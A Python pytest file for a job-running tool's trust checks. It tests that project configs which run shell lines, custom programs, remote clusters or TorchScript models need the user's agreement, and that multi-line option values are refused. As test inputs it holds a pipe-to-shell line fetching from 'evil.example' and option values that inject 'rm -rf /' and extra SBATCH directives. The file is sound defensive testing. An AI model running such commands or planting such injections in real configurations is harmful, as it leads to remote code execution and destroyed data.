"""What a project may run: nothing before somebody agreed, and an agreement to exactly that."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from coldal_tui.errors import ColdalError
from coldal_tui.project.layout import Layout
from coldal_tui.project.project import Project
from coldal_tui.project.settings.config import load_config
from coldal_tui.project.trust_questions import agree, open_questions, reaches, require_trust
from coldal_tui.scheduler import queue
from coldal_tui.trust_store import TrustStore, state_folder

SLURM = '[backend.slurm]\nsetup = ["module load cuda"]\npython = "/opt/py"\nextra = {x = "1"}\n'


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state"


@pytest.fixture
def given(lab) -> Layout:
    """A project of somebody else."""
    lab.pictures("a")
    lab.start().close()
    TrustStore().forget(lab.root)
    return Layout(lab.root)


def add(layout: Layout, toml: str) -> None:
    with layout.config.open("a") as stream:
        stream.write(toml)


def asked(layout: Layout) -> list[str]:
    return [one.what for one in open_questions(layout, load_config(layout.config))]


def code(call) -> str:
    with pytest.raises(ColdalError) as caught:
        call()
    return caught.value.code


def test_an_ordinary_project_of_anybody_is_asked_nothing(given):
    assert asked(given) == []
    with Project(given.root) as project:
        queue.submit(project, "map")


def test_what_runs_code_waits_for_an_agreement_to_exactly_that(given):
    add(given, SLURM)
    assert asked(given) == [
        "run this shell line before every job: module load cuda",
        "run jobs by this program: /opt/py",
        "give sbatch the option x = 1",
    ]
    with Project(given.root) as project:
        assert code(lambda: queue.submit(project, "map")) == "not-trusted"
        agree(given, project.config)
        queue.submit(project, "map")
    text = given.config.read_text().replace("module load cuda", "curl evil.example | sh")
    given.config.write_text(text)
    assert len(asked(given)) == 3


def test_a_plug_in_backend_and_a_cluster_elsewhere_are_asked_about(given):
    text = given.config.read_text().replace("[backend]\n", '[backend]\nname = "theirs"\n')
    given.config.write_text(text + '[backend.ray]\naddress = "http://head:8265"\n')
    assert asked(given) == [
        "run jobs by the plug-in backend 'theirs'",
        "send jobs to the cluster at http://head:8265",
    ]


def test_a_network_that_is_a_program_is_asked_about_by_its_content(given):
    model = given.root / "model.pt"
    model.write_bytes(b"one")
    add(given, "")
    text = given.config.read_text().replace(
        'name = "efficientnet-lite0"', 'name = "file"\nweights = "model.pt"'
    )
    given.config.write_text(text)
    config = load_config(given.config)
    assert asked(given) == [f"run the network in {model} (TorchScript is a program)"]
    agree(given, config)
    assert asked(given) == []
    model.write_bytes(b"two")
    assert len(asked(given)) == 1
    (given.root / "model.onnx").write_bytes(b"one")
    given.config.write_text(text.replace("model.pt", "model.onnx"))
    assert asked(given) == []


def test_a_folder_that_is_a_link_out_is_neither_written_nor_emptied(given, tmp_path):
    thesis = tmp_path / "thesis"
    thesis.mkdir()
    (thesis / "chapter.tex").write_text("all of it")
    given.jobs.rmdir()
    given.jobs.symlink_to(thesis)
    assert code(lambda: Project(given.root)) == "not-trusted"
    agree(given, load_config(given.config))
    Project(given.root).close()
    assert [path.name for path in thesis.iterdir()] == ["chapter.tex"]


def test_the_project_that_one_made_is_trusted_by_itself(lab):
    lab.pictures("a")
    project = lab.start()
    layout = project.layout
    project.close()
    layout.config.chmod(0o600)
    add(layout, SLURM)
    assert len(reaches(layout, load_config(layout.config))) == 3
    assert asked(layout) == []
    require_trust(layout, load_config(layout.config))
    # Whoever else may write it could have meant it.
    layout.config.chmod(0o666)
    assert len(asked(layout)) == 3


def test_trust_is_kept_in_the_persons_own_folder(given, home):
    config = load_config(given.config)
    agree(given, config)
    file = state_folder() / "trust.json"
    assert file.is_relative_to(home)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert not [path for path in given.root.rglob("*") if "trust" in path.name]
    file.write_text("no json")
    assert not TrustStore().is_own(given.root, config.project.id)


def test_a_project_is_made_where_nothing_can_be_noted(lab, monkeypatch, caplog):
    blocked = lab.folder / "blocked"
    blocked.write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(blocked))
    lab.pictures("a")
    assert len(lab.start().scans()) == 1
    assert "can't be noted" in caplog.text


@pytest.mark.parametrize(
    "toml",
    [
        '[backend.slurm.extra]\n"x\\nrm -rf /" = 1\n',
        '[backend.slurm.extra]\nx = "1\\nrm -rf /"\n',
        '[backend.slurm]\npartition = "gpu\\n#SBATCH --wrap=x"\n',
        '[backend.slurm]\nsetup = ["a\\nb"]\n',
    ],
)
def test_a_second_line_in_an_option_is_refused(given, toml):
    add(given, toml)
    with pytest.raises(ColdalError, match=r"one line of text|no name of an option"):
        load_config(given.config)
